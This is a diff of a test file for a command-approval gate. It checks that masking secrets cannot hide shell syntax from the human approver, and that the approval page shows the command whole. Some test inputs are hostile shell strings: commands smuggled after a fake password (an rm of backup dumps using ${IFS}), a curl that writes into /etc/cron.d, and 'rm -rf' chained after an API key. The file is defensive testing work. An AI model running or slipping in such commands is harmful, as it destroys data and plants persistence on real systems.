@@ -405,13 +405,24 @@ describe('what the approver is shown is what runs', () => {
     "echo pass:x;rm${IFS}/var/lib/vz/dump;' ;$A;'",
     // no control character at all: the mask ran over the URL and the output file
     'curl -H X-API-Key:abc http://192.0.2.1/x -o /etc/cron.d/x',
-  ])('hole: a secret\'s mask cannot hide shell syntax from the approver: `%s` is refused before any approval', async (command) => {
+  ])('hole: a secret\'s mask cannot hide shell syntax from the approver: `%s` is shown whole or refused before any approval', async (command) => {
     const name = `red-mask-${++counter}`;
     const safe = await ts.createToken({ name, role: 'admin', mode: 'safe' });
     const tokenId = (await tokenRow(name)).id;
     const answer = await callRest(ts.url, safe, 'execute_command', { command, node: 'pve1' });
-    // refused for the hidden syntax (400), or earlier for what the line does (403: a shell feature)
-    expect([400, 403], JSON.stringify(answer.body).slice(0, 500)).toContain(answer.status);
+    // The mask now ends with the secret's shell word, so the approver is asked about every command of the
+    // line (428, and the page shows it all but the secret); the gate's check stays as a safety net: refused
+    // for hidden syntax (400), or earlier for what the line does (403: a shell feature).
+    expect([400, 403, 428], JSON.stringify(answer.body).slice(0, 500)).toContain(answer.status);
+    if (answer.status === 428) {
+      const shown = redactText(command);
+      expect(shellControls(shown)).toBe(shellControls(command));
+      const page = await getPage(ts.url, `/approve/${answer.body.error.details.approval_id}`);
+      const text = page.html.replace(/&amp;/g, '&').replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&#39;|&#x27;/g, "'");
+      expect(text).toContain(shown);
+      expect(await store().countPendingFor(tokenId)).toBe(1);
+      return;
+    }
     if (answer.status === 400) expect(answer.body.error.message).toMatch(/hides shell syntax/);
     expect(await store().countPendingFor(tokenId)).toBe(0);
     if (answer.status === 400) {
@@ -422,8 +433,13 @@ describe('what the approver is shown is what runs', () => {
 
   it('the check itself: a mask that removes a control character, a quote or an escape is found; one that keeps them is not', () => {
     const flip = "echo pass:x;rm${IFS}/x;' ;$A;'";
-    // Before quotes counted, both sides had the same unquoted controls (;$;) and this passed unseen.
-    expect(hiddenShellSyntax({ command: flip }, { command: redactText(flip) })).toBeDefined();
+    // Before quotes counted, both sides had the same unquoted controls (;$;) and this passed unseen. The
+    // masks are exact now (the secret ends with its shell word), so the bad masks here are the old ones.
+    expect(hiddenShellSyntax({ command: flip }, { command: "echo pass:[redacted]' ;$A;'" })).toBeDefined();
+    expect(hiddenShellSyntax({ command: flip }, { command: redactText(flip) })).toBeUndefined();
+    expect(redactText(flip)).toContain(';rm${IFS}/x;');
+    expect(hiddenShellSyntax({ command: 'curl -H X-API-Key:abc;rm -rf /x' }, { command: 'curl -H X-API-Key:[redacted]' })).toBeDefined();
+    // an escape inside the secret is masked with it: still refused
     expect(hiddenShellSyntax({ command: 'curl -u u:a\\;b http://x' }, { command: redactText('curl -u u:a\\;b http://x') })).toBeDefined();
     expect(hiddenShellSyntax({ command: "curl -u 'u:a;b' http://x | jq ." }, { command: redactText("curl -u 'u:a;b' http://x | jq .") })).toBeUndefined();
     expect(hiddenShellSyntax({ params: { password: 'a;b|c' } }, { params: { password: '[redacted]' } })).toBeUndefined();
